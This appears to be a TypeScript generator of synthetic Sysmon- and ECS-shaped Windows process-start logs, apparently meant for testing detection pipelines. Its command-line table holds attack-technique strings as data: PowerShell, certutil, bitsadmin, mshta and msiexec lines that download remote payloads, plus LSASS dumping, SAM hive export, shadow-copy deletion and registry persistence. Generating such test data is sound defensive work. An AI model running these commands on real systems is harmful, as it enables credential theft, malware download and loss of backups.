/**
 * Seeded synthetic process events, Sysmon-shaped (EventID 1 with Sigma taxonomy field names)
 * or ECS-shaped (Winlogbeat/Elastic Agent process start), deterministic from the seed.
 *
 *   npx tsx scripts/gen-events.ts --count 100000 --seed 42 --shape sysmon > events.ndjson
 */

export type Shape = 'sysmon' | 'ecs';

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SYS = 'C:\\Windows\\System32\\';
const BINARIES: Array<[string, string[]]> = [
  [SYS + 'svchost.exe', ['-k netsvcs -p -s Schedule', '-k LocalService -p', '-k DcomLaunch -p']],
  [SYS + 'cmd.exe', ['/c dir C:\\Users', '/c echo hello > out.txt', '/c whoami /all', '/c net user administrator', '/c ping -n 1 10.0.0.5']],
  [SYS + 'WindowsPowerShell\\v1.0\\powershell.exe', ['-NoProfile -Command Get-Process', '-ExecutionPolicy Bypass -File C:\\scripts\\deploy.ps1', '-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', '-nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a\')"']],
  [SYS + 'wbem\\WMIC.exe', ['/node:10.1.2.3 process call create "cmd.exe /c calc"', 'os get caption', 'shadowcopy delete /nointeractive']],
  [SYS + 'rundll32.exe', ['shell32.dll,Control_RunDLL', 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll,DllRegisterServer', 'javascript:"\\..\\mshtml,RunHTMLApplication"']],
  [SYS + 'reg.exe', ['query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /ve /d cmd.exe /f', 'save HKLM\\SAM C:\\temp\\sam.hive']],
  [SYS + 'schtasks.exe', ['/create /tn Updater /tr C:\\ProgramData\\u.exe /sc minute', '/query /fo LIST']],
  [SYS + 'certutil.exe', ['-urlcache -split -f http://203.0.113.9/p.exe p.exe', '-decode in.b64 out.exe', '-hashfile C:\\a.iso SHA256']],
  [SYS + 'net.exe', ['user', 'group "Domain Admins" /domain', 'use \\\\fileserver\\share']],
  [SYS + 'mshta.exe', ['http://evil.example/payload.hta', 'vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc""")']],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', ['--type=renderer --field-trial-handle=1234', '--no-startup-window']],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', ['/n "C:\\Users\\bob\\Documents\\report.docx"']],
  ['C:\\Users\\bob\\AppData\\Local\\Temp\\setup.exe', ['/S', '--silent --install']],
  ['C:\\Windows\\explorer.exe', ['']],
  [SYS + 'conhost.exe', ['0xffffffff -ForceV1']],
  [SYS + 'msiexec.exe', ['/i C:\\temp\\agent.msi /qn', '/q /i http://198.51.100.20/x.msi']],
  [SYS + 'bitsadmin.exe', ['/transfer job /download /priority high http://203.0.113.3/a.exe C:\\temp\\a.exe']],
  ['C:\\Tools\\procdump64.exe', ['-ma lsass.exe C:\\temp\\l.dmp', '-accepteula -ma 1234']],
];
const PARENTS = [SYS + 'services.exe', 'C:\\Windows\\explorer.exe', SYS + 'svchost.exe', SYS + 'cmd.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', SYS + 'WindowsPowerShell\\v1.0\\powershell.exe'];
const USERS = ['CORP\\bob', 'CORP\\alice', 'NT AUTHORITY\\SYSTEM', 'CORP\\svc_backup', 'WORKSTATION7\\admin'];
const HOSTS = ['ws-001.corp.example', 'ws-002.corp.example', 'srv-db01.corp.example', 'dc01.corp.example'];
const COMPANIES = ['Microsoft Corporation', 'Google LLC', '', 'Sysinternals - www.sysinternals.com'];
const INTEGRITY = ['Medium', 'High', 'System', 'Low'];

function hex(r: () => number, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += Math.floor(r() * 16).toString(16).toUpperCase();
  return s;
}

function guid(r: () => number): string {
  return `{${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 12)}}`;
}

function basename(p: string): string {
  return p.slice(p.lastIndexOf('\\') + 1);
}

export function* generateEvents(count: number, seed: number, shape: Shape): Generator<Record<string, unknown>> {
  const r = mulberry32(seed);
  const pick = <T>(a: T[]): T => a[Math.floor(r() * a.length)];
  let t = Date.UTC(2026, 10, 1, 8, 0, 0);
  for (let i = 0; i < count; i++) {
    t += Math.floor(r() * 2000);
    const [image, cmds] = pick(BINARIES);
    const args = pick(cmds);
    const parent = pick(PARENTS);
    const commandLine = args ? `"${image}" ${args}` : image;
    const pid = 1000 + Math.floor(r() * 60000);
    const ppid = 400 + Math.floor(r() * 60000);
    const user = pick(USERS);
    const host = pick(HOSTS);
    const hashes = `SHA1=${hex(r, 40)},MD5=${hex(r, 32)},SHA256=${hex(r, 64)},IMPHASH=${hex(r, 32)}`;
    const ts = new Date(t).toISOString();
    const name = basename(image);
    const pguid = guid(r);
    if (shape === 'sysmon') {
      yield {
        '@timestamp': ts,
        EventID: 1,
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Provider_Name: 'Microsoft-Windows-Sysmon',
        Computer: host,
        RuleName: '-',
        UtcTime: ts,
        ProcessGuid: guid(r),
        ProcessId: pid,
        Image: image,
        FileVersion: `10.0.${19041 + Math.floor(r() * 3000)}.1`,
        Description: name.replace(/\.exe$/i, ''),
        Product: 'Microsoft® Windows® Operating System',
        Company: pick(COMPANIES),
        OriginalFileName: name.toUpperCase() === name ? name : name.toLowerCase(),
        CommandLine: commandLine,
        CurrentDirectory: 'C:\\Windows\\system32\\',
        User: user,
        LogonGuid: guid(r),
        LogonId: `0x${hex(r, 6)}`,
        TerminalSessionId: Math.floor(r() * 3),
        IntegrityLevel: pick(INTEGRITY),
        Hashes: hashes,
        ParentProcessGuid: pguid,
        ParentProcessId: ppid,
        ParentImage: parent,
        ParentCommandLine: `"${parent}"`,
        ParentUser: pick(USERS),
      };
    } else {
      const [domain, uname] = user.split('\\');
      yield {
        '@timestamp': ts,
        event: { code: '1', category: ['process'], type: ['start'], kind: 'event', provider: 'Microsoft-Windows-Sysmon', module: 'sysmon' },
        winlog: { channel: 'Microsoft-Windows-Sysmon/Operational', event_id: '1', computer_name: host, event_data: { IntegrityLevel: pick(INTEGRITY), Company: pick(COMPANIES) } },
        host: { name: host, hostname: host.split('.')[0], os: { family: 'windows' } },
        process: {
          pid,
          entity_id: guid(r),
          executable: image,
          name,
          command_line: commandLine,
          args: commandLine.split(' '),
          working_directory: 'C:\\Windows\\system32\\',
          pe: { original_file_name: name, company: pick(COMPANIES), description: name.replace(/\.exe$/i, '') },
          hash: { sha1: hex(r, 40).toLowerCase(), md5: hex(r, 32).toLowerCase(), sha256: hex(r, 64).toLowerCase() },
          parent: { pid: ppid, entity_id: pguid, executable: parent, name: basename(parent), command_line: `"${parent}"` },
        },
        user: { domain, name: uname },
      };
    }
  }
}

if (require.main === module) {
  const argv = process.argv.slice(2);
  const opt = (name: string, dflt: string): string => {
    const i = argv.indexOf(`--${name}`);
    return i >= 0 && argv[i + 1] !== undefined ? argv[i + 1] : dflt;
  };
  const count = Number(opt('count', '100000'));
  const seed = Number(opt('seed', '1'));
  const shape = opt('shape', 'sysmon') as Shape;
  if (shape !== 'sysmon' && shape !== 'ecs') {
    process.stderr.write(`--shape must be sysmon or ecs, got '${shape}'\n`);
    process.exit(2);
  }
  let buf = '';
  for (const e of generateEvents(count, seed, shape)) {
    buf += JSON.stringify(e) + '\n';
    if (buf.length > 1 << 20) {
      process.stdout.write(buf);
      buf = '';
    }
  }
  process.stdout.write(buf);
}
